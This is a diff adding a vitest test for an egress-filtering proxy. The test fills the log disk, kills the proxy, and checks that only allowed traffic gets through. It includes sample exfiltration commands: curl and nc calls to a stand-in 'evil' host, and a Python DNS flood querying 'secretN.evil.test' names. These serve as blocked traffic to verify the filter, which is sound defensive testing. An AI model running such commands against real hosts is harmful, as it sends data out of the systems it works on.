@@ -1,4 +1,4 @@
-import { readdirSync, readFileSync } from 'node:fs';
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
@@ -86,4 +86,61 @@ describe('the proxy is killed in the middle of 200 transfers, ten times in a row
   test('the log is whole lines, and tells of each end', () => {
     expect(log.filter(({ type, reason }) => type === 'guard' && reason?.includes('signal 9'))).toHaveLength(KILLS);
   });
+});
+
+test('the disk of the log is full: what is decided is decided, a new proxy comes up, the guard says so, and the log stays whole lines', async () => {
+  // Names that are denied, a line each.
+  const flood = `import socket, struct, time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect(("${WORLD.dns}", 53))
+for n in range(1500):
+    s.send(struct.pack("!6H", n, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p for p in (b"secret%d" % n, b"evil", b"test")) + b"\\0\\0\\1\\0\\1")
+    try: s.recv(512)
+    except OSError: pass`;
+  const wait = (name: string): string => `while [ ! -e ${name} ]; do sleep 0.05; done`;
+  const evil = `( curl -sSk --max-time 2 https://${WORLD.evil}/x; echo x | timeout 1 nc -u -w1 ${WORLD.evil} 9999 ) || true`;
+  const allowed = (path: string): string => `curl -sS --max-time 10 https://ok.test/${path}`;
+  const job = await startJob({
+    before: (machine) => machine.inside(['mount', '-t', 'tmpfs', '-o', 'size=256k,mode=755', 'tmpfs', '/var/log']),
+    action: { with: { policy: 'ok.test' } },
+    workspace: { 'flood.py': flood },
+    steps: [
+      { name: 'full', run: `python3 flood.py; ${evil}; ${allowed('full')} && touch full; ${wait('killed')}` },
+      { name: 'killed', run: `${evil}; ${allowed('killed')} && touch passed; ${wait('room')}` },
+      { name: 'room', run: `${evil}; ${allowed('room')}` },
+    ],
+  });
+  const inside = (script: string): string => job.machine.inside(['sh', '-c', script]).stdout;
+  const copy = join(job.machine.directory, 'copy.jsonl');
+  const log = (): LogEvent[] => {
+    writeFileSync(copy, inside('cat /var/log/egress-filter/*/log.jsonl'));
+    return readValidLog(copy);
+  };
+  const touch = (name: string): unknown => inside(`touch /home/runner/work/repo/repo/${name}`);
+  try {
+    await job.workspaceFile('full');
+    expect(inside('df --output=avail /var/log | tail -1').trim()).toMatch(/^[0-4]$/);
+    expect(log().length).toBeGreaterThan(300);
+    const problem = (): string | undefined => statusOf(job.machine).problems.find((text) => text.startsWith('The log cannot be written'));
+    expect(await job.machine.until('a problem of the guard', problem)).toMatch(/\d+ lines wait in memory/);
+
+    process.kill(proxyOf(job.machine)[0] ?? 0, 'SIGKILL');
+    touch('killed');
+    await job.workspaceFile('passed');
+    log();
+    inside('mount -o remount,size=16m /var/log');
+    touch('room');
+    const result = await job.completed();
+    expect(result.conclusion, transcript(result)).toBe('success');
+    expect(reached(result, WORLD.evil)).toEqual([]);
+    expect(asked(result).filter((name) => name.endsWith('evil.test'))).toEqual([]);
+    const all = log();
+    for (const path of ['killed', 'room'])
+      expect(
+        all.some(({ url }) => url === `https://ok.test/${path}`),
+        path,
+      ).toBe(true);
+    expect(all.some(({ type, reason }) => type === 'guard' && reason?.includes('lines that it could not write to the log'))).toBe(true);
+  } finally {
+    await job.stop();
+  }
 });
